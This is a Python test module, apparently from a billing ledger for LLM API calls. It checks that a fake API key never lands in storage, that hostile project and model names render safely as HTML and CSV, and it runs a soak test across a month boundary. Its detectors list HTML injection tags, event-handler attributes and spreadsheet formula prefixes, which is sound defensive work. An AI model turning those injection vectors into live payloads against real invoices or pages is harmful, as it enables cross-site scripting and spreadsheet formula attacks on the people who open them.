            seen.append(call_sync(client2, url_ + f"?api_key={FAKE_API_KEY}", "openai", body,
                                  headers=auth, tag="key-in-query"))
            book.set_budget("secrets", Decimal("0.0001"))
            seen.append(call_sync(client2, url_, "openai", body, headers=auth, tag="refused"))
            book.set_budget("secrets", Decimal("1000"))
            # The database fails while settling: the outcome goes to the spool.
            real_settle = book.store.settle

            def failing(*args: Any, **kwargs: Any) -> int:
                from ..errors import LedgerUnavailable

                raise LedgerUnavailable("ledger database unavailable (test)")

            book.store.settle = failing  # type: ignore[method-assign]
            try:
                seen.append(call_sync(client2, url_, "openai", body, headers=auth, tag="spooled"))
                sim.enqueue(Behavior(status=401, error_message=f"no such key {FAKE_API_KEY}"))
                seen.append(call_sync(client2, url_, "openai", body, headers=auth,
                                      tag="spooled-401-echo"))
            finally:
                book.store.settle = real_settle  # type: ignore[method-assign]
        spool_text = file_text(spool, str(spool) + ".rejected")
        figures.extra["spool_entries"] = len(book.spool.entries())
        book.replay()
        figures.calls = len(seen)
        figures.admitted = sum(s.sent for s in seen)
        figures.refused = sum(not s.sent for s in seen)
        figures.failed = sum(s.kind() == "failed" for s in seen)
        # Secrets: every table, the raw database files, the spool.
        stored = database_text(book)
        raw = file_text(*(f"{sqlite_path}{suffix}" for suffix in ("", "-wal", "-shm"))) \
            if sqlite_path else ""
        found = 0
        for fragment in _secret_fragments(FAKE_API_KEY):
            for where, blob in (("tables", stored), ("database files", raw), ("spool", spool_text)):
                if fragment in blob:
                    found += 1
                    figures.problem(f"API key fragment {fragment!r} found in the {where}")
        figures.extra["secret_occurrences"] = found
        # Names: stored literally, rendered safely.
        rows = event_rows(book)
        projects = {r["project"] for r in rows}
        models = {r["model"] for r in rows}
        for name in EVIL_NAMES:
            if name not in projects or name not in models:
                figures.problem(f"name not stored literally: {name!r}")
        month = "2026-11"
        rendered = 0
        for name in EVIL_NAMES:
            inv = book.invoice(name, month, draft=True)
            if inv.project != name or not any(line.model == EVIL_NAMES[
                    (EVIL_NAMES.index(name) + 3) % len(EVIL_NAMES)] for line in inv.lines):
                figures.problem(f"invoice of {name!r} lost its names")
            figures.problems.extend(html_problems(render_html.invoice(inv), name))
            out = io.StringIO()
            render_csv.invoices(out, [inv])
            figures.problems.extend(csv_problems(out.getvalue(), name))
            rendered += 1
        figures.extra["names_tried"] = len(EVIL_NAMES)
        figures.extra["invoices_rendered"] = rendered
        audit(book, figures)
    figures.seconds = time.perf_counter() - start
    return figures


FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def html_problems(page: str, name: str) -> list[str]:
    """A rendered HTML page must show ``name`` as text: the only tags and attributes are the
    renderer's own, and the name appears (unescaped) in the page's text."""
    from html.parser import HTMLParser

    class Reader(HTMLParser):
        def __init__(self) -> None:
            super().__init__(convert_charrefs=True)
            self.tags: set[str] = set()
            self.attrs: set[str] = set()
            self.text: list[str] = []

        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            self.tags.add(tag)
            self.attrs.update(k for k, _ in attrs)

        def handle_data(self, data: str) -> None:
            self.text.append(data)

    reader = Reader()
    reader.feed(page)
    problems = []
    if reader.tags & {"script", "img", "iframe", "object", "embed"}:
        problems.append(f"HTML for {name!r} has injected tags: {sorted(reader.tags)}")
    if any(a.startswith("on") for a in reader.attrs):
        problems.append(f"HTML for {name!r} has event-handler attributes")
    flat = " ".join("".join(reader.text).split())
    if " ".join(name.split()) not in flat:
        problems.append(f"HTML for {name!r} does not show the name as text")
    return problems


def csv_problems(document: str, name: str) -> list[str]:
    """A CSV invoice must hold ``name`` exactly (with a leading ``'`` if a spreadsheet would
    run it), and no cell a spreadsheet would run as a formula."""
    import csv
    import io

    rows = list(csv.reader(io.StringIO(document, newline="")))
    cells = [c for row in rows[1:] for c in row]
    problems = []
    want = "'" + name if name.startswith(FORMULA_START) else name
    if want not in cells:
        problems.append(f"CSV for {name!r} does not hold {want!r}")
    for c in cells:
        if c.startswith(FORMULA_START) and not _is_number(c):
            problems.append(f"CSV for {name!r} has a formula cell {c!r}")
    return problems


def _is_number(cell: str) -> bool:
    try:
        Decimal(cell)
    except ArithmeticError:
        return False
    return True


# -- 6. soak --------------------------------------------------------------------------------------

SOAK_START = datetime(2026, 11, 30, 22, 0, tzinfo=UTC)
SOAK_BOUNDARY = datetime(2026, 12, 1, tzinfo=UTC)
SOAK_PROJECTS = ("soak-hard", "soak-soft", "soak-free", EVIL_NAMES[0])


def _soak_behaviors(rnd: random.Random, n: int) -> list[Behavior]:
    choices = [Behavior(status=500, retry_after=None), Behavior(status=429, retry_after=None),
               Behavior(error_event=True), Behavior(cut_after=2), Behavior(omit_usage=True),
               Behavior(malformed=True), Behavior(reply=" ".join(["tok"] * rnd.randint(0, 600))),
               Behavior(cached_tokens=3)]
    return [rnd.choice(choices) for _ in range(n)]


@dataclass
class _SoakCall:
    seen: Seen
    project: str
    model: str
    month: str
    price: Decimal


def soak(url: str, seconds: float, *, seed: int = 7, sync_threads: int = 3, async_calls: int = 4,
         spool_path: Path | None = None,
         progress: Callable[[str], None] | None = None) -> Figures:
    """A mixed workload for ``seconds``: sync (httpx, httpx2) and async (httpx, httpx2)
    clients, streamed and not, ``metered_call``; server failures (5xx, 429, error events, cut
    streams, missing usage, malformed bodies); refusals by a hard budget; price changes; the
    month boundary crossed half-way (a manual clock). The books are checked at the end."""
    figures = Figures("soak", backend_of(url))
    rnd = random.Random(seed)
    clock = ManualClock(SOAK_START)
    book = Ledger(url, clock=clock, spool_path=spool_path)
    book.set_budget("soak-hard", Decimal("0.05"))
    book.set_budget("soak-soft", Decimal("0.01"), hard=False)
    prices = {"kimi-k2.5": PRICE, "kimi-k2.6": PRICE}
    calls: list[_SoakCall] = []
    calls_lock = threading.Lock()
    forwarded = 0
    sim = RunAPISimulator().start()
    loop = asyncio.new_event_loop()
    loop_thread = threading.Thread(target=loop.run_forever, name="soak-async", daemon=True)
    loop_thread.start()
    sync_clients: list[Any] = [book.httpx_client("soak-free", timeout=60),
                               book.httpx2_client("soak-free", timeout=60)]
    async_clients: list[Any] = []

    async def make_async() -> None:
        async_clients.extend([book.async_httpx_client("soak-free", timeout=60),
                              book.async_httpx2_client("soak-free", timeout=60)])

    asyncio.run_coroutine_threadsafe(make_async(), loop).result()
    plain = httpx.Client(timeout=60)

    def plan(r: random.Random) -> tuple[Shape, dict[str, Any], str, str, int | None]:
        shape: Shape = "openai" if r.random() < 0.5 else "anthropic"
        model = r.choice(("kimi-k2.5", "kimi-k2.6"))
        project = r.choice(SOAK_PROJECTS)
        body = request_body(shape, model=model, stream=r.random() < 0.5,
                            max_tokens=r.choice((5, 30, 100, 400)),
                            content=" ".join(r.choice(("alpha", "beta", "gamma"))
                                             for _ in range(r.randint(1, 30))))
        close_after = 1 if body.get("stream") and r.random() < 0.05 else None
        return shape, body, model, project, close_after

    def record(seen: Seen, project: str, model: str, price_now: dict[str, Decimal]) -> None:
        with calls_lock:
            calls.append(_SoakCall(seen, project, model, month_of(clock.now()), price_now[model]))

    def sync_batch(worker: int, count: int, price_now: dict[str, Decimal]) -> None:
        r = random.Random(rnd.random())
        for _ in range(count):
            shape, body, model, project, close_after = plan(r)
            headers = {"x-ledger-project": project, "authorization": f"Bearer {FAKE_API_KEY}"}
            if r.random() < 0.1 and not body.get("stream"):
                seen = _metered_call(book, project, body, sim.base_url + PATHS[shape], plain)
            else:
                client = sync_clients[worker % len(sync_clients)]
                seen = call_sync(client, sim.base_url + PATHS[shape], shape, body,
                                 headers=headers, close_after=close_after, tag=project)
            record(seen, project, model, price_now)

    async def async_batch(count: int, price_now: dict[str, Decimal]) -> None:
        r = random.Random(rnd.random())
        jobs = []
        for i in range(count):
            shape, body, model, project, close_after = plan(r)
            headers = {"x-ledger-project": project, "x-api-key": FAKE_API_KEY}
            jobs.append((call_async(async_clients[i % 2], sim.base_url + PATHS[shape], shape,
                                    body, headers=headers, close_after=close_after, tag=project),
                         project, model))
        results = await asyncio.gather(*(j[0] for j in jobs))
        for seen, (_, project, model) in zip(results, jobs, strict=True):
            record(seen, project, model, price_now)

    start = time.perf_counter()
    crossed = False
    rounds = 0
    price_changes = 0
    from concurrent.futures import ThreadPoolExecutor

    try:
        with ThreadPoolExecutor(sync_threads) as pool:
            while time.perf_counter() - start < seconds or not crossed:
                rounds += 1
                elapsed = time.perf_counter() - start
                if not crossed and elapsed >= seconds / 2:
                    clock.set(SOAK_BOUNDARY + timedelta(seconds=30))
                    crossed = True
                elif crossed:
                    clock.advance(timedelta(seconds=1))
                else:  # time only moves forward: stop short of the boundary until the jump
                    clock.set(min(clock.now() + timedelta(seconds=1),
                                  SOAK_BOUNDARY - timedelta(seconds=30)))
                if rounds % 25 == 0:
                    model = rnd.choice(("kimi-k2.5", "kimi-k2.6"))
                    prices[model] = Decimal(rnd.randint(5, 60)) / 1000
                    book.set_price(model, prices[model], effective_from=clock.now())
                    price_changes += 1
                price_now = dict(prices)
                sim.reset()
                sim.enqueue(*_soak_behaviors(rnd, rnd.randint(0, 4)))
                futures = [pool.submit(sync_batch, w, 3, price_now) for w in range(sync_threads)]
                asyncio.run_coroutine_threadsafe(async_batch(async_calls, price_now),
                                                 loop).result(timeout=300)
                for f in futures:
                    f.result(timeout=300)
                forwarded += sim.request_count
                if progress is not None and rounds % 200 == 0:
                    progress(f"{time.perf_counter() - start:6.0f}s  {len(calls)} calls")
    finally:
        for c in sync_clients:
            c.close()
        plain.close()

        async def close_async() -> None:
            for c in async_clients:
                await c.aclose()

        asyncio.run_coroutine_threadsafe(close_async(), loop).result()
        loop.call_soon_threadsafe(loop.stop)
        loop_thread.join(10)
        sim.stop()
    figures.seconds = time.perf_counter() - start
    _check_soak(book, figures, calls, forwarded, clock)
    figures.extra.update({"rounds": rounds, "price_changes": price_changes,
                          "throughput_per_s": round(len(calls) / figures.seconds, 1)})
    book.close()
    return figures


def _metered_call(book: Ledger, project: str, body: Mapping[str, Any], url: str,
                  plain: httpx.Client) -> Seen:
    """A call made by an unmetered client, metered by hand with ``book.metered_call``."""
    from ..errors import BudgetExceeded

    seen = Seen(tag=project)
    try:
        with book.metered_call(project, body) as call:
            reply = plain.post(url, json=dict(body))
            seen.status, seen.call_id = reply.status_code, call.call_id
            if reply.status_code >= 400:
                call.void(f"HTTP {reply.status_code}", http_status=reply.status_code)
            else:
                seen.usage, seen.complete = json_usage("openai" if "chat" in url else "anthropic",
                                                       reply.content)
                seen.garbled = not seen.complete
                call.settle(reply.content)
    except BudgetExceeded:
        seen.refused, seen.status = "budget_exceeded", 402
    return seen


def _check_soak(book: Ledger, figures: Figures, calls: list[_SoakCall], forwarded: int,
                clock: ManualClock) -> None:
    rows = {r["call_id"]: r for r in event_rows(book)}
    refused_events = Counter((r["project"], r["month"]) for r in rows.values()
                             if r["status"] == "refused")
    refused_seen: Counter[tuple[str, str]] = Counter()
    kinds: Counter[str] = Counter()
    figures.calls = len(calls)
    for call in calls:
        seen = call.seen
        kind = seen.kind()
        kinds[kind] += 1
        if kind == "refused":
            figures.refused += 1
            refused_seen[(call.project, call.month)] += 1
            if seen.refused != "budget_exceeded" or call.project != "soak-hard":
                figures.problem(f"unexpected refusal {seen.refused} for {call.project!r}")
            continue
        figures.admitted += 1
        figures.failed += kind == "failed"
        row = rows.get(seen.call_id)
        problem = check_event(seen, row, call.price)
        if problem:
            figures.usage_lost += 1
            figures.problem(problem)
        elif row is not None and (row["project"] != call.project or row["month"] != call.month):
            figures.problem(f"call {seen.call_id} booked to {row['project']!r} {row['month']}")
    if forwarded != figures.admitted:
        figures.problem(f"the server saw {forwarded} calls, {figures.admitted} were admitted")
    if refused_seen != refused_events:
        figures.problem(f"refusals seen {dict(refused_seen)} != refused events {dict(refused_events)}")
    for month in ("2026-11", "2026-12"):
        state = book.budget("soak-hard", month)
        assert state.limit is not None
        figures.overspend = max(figures.overspend, state.spent - state.limit)
        figures.extra[f"hard_spent_{month}"] = state.spent
        if state.spent > state.limit:
            figures.problem(f"hard budget overspent in {month}: {state.spent} > {state.limit}")
        for project in SOAK_PROJECTS:
            inv = book.invoice(project, month, draft=True)
            exact = sum((from_units(r["cost"]) for r in rows.values()
                         if r["project"] == project and r["month"] == month), Decimal(0))
            if inv.exact_total != exact or inv.total != sum((ln.amount for ln in inv.lines),
                                                             Decimal(0)):
                figures.problem(f"invoice {project!r} {month}: {inv.exact_total} / {inv.total}, "
                                f"events say {exact}")
    months = {c.month for c in calls if c.seen.kind() != "refused"}
    if months != {"2026-11", "2026-12"}:
        figures.problem(f"calls admitted in months {sorted(months)}: the boundary was not crossed")
    if book.store.pending_holds():
        figures.problem(f"{len(book.store.pending_holds())} holds pending with no call in flight")
    if book.spool.exists():
        figures.problem("something was spooled during the soak")
    figures.extra["by_kind"] = dict(sorted(kinds.items()))
    audit(book, figures, clock)


# -- helpers for the scripts ----------------------------------------------------------------------


@contextmanager
def pg_schema(base_url: str) -> Iterator[str]:
    """A fresh PostgreSQL schema on ``base_url`` for one run (dropped afterwards): the URL
    with its ``search_path`` set to it. Connections are not pooled (an outage kills them)."""
    import uuid

    from sqlalchemy import create_engine
    from sqlalchemy.pool import NullPool

    from ..store.engine import normalise_url

    schema = "rel_" + uuid.uuid4().hex[:12]
    admin = create_engine(normalise_url(base_url), poolclass=NullPool)
    with admin.begin() as conn:
        conn.execute(text(f'CREATE SCHEMA "{schema}"'))
    sep = "&" if "?" in base_url else "?"
    try:
        yield f"{base_url}{sep}options=-csearch_path%3D{schema}"
    finally:
        with admin.begin() as conn:
            conn.execute(text(f'DROP SCHEMA "{schema}" CASCADE'))
        admin.dispose()


def figures_table(rows: Sequence[Figures]) -> str:
    """The figures as a Markdown table."""
    head = ("| suite | backend | calls | admitted | refused | failed | overspend | usage lost "
            "| charged twice | holds unresolved past TTL | seconds |")
    lines = [head, "|" + "---|" * 11]
    for f in rows:
        lines.append(f"| {f.suite} | {f.backend} | {f.calls:,} | {f.admitted:,} | "
                     f"{f.refused:,} | {f.failed:,} | ${f.overspend} | {f.usage_lost} | "
                     f"{f.charged_twice} | {f.unresolved_holds} | {f.seconds:.1f} |")
    return "\n".join(lines)


# -- the crash child's entry point -------------------------------------------------------------


def _main(argv: Sequence[str]) -> int:
    if len(argv) == 2 and argv[0] == "crash-child":
        crash_child(json.loads(argv[1]))
        return 0
    print("usage: python -m ledger.testing.reliability crash-child '<json spec>'", file=sys.stderr)
    return 2


if __name__ == "__main__":
    sys.exit(_main(sys.argv[1:]))
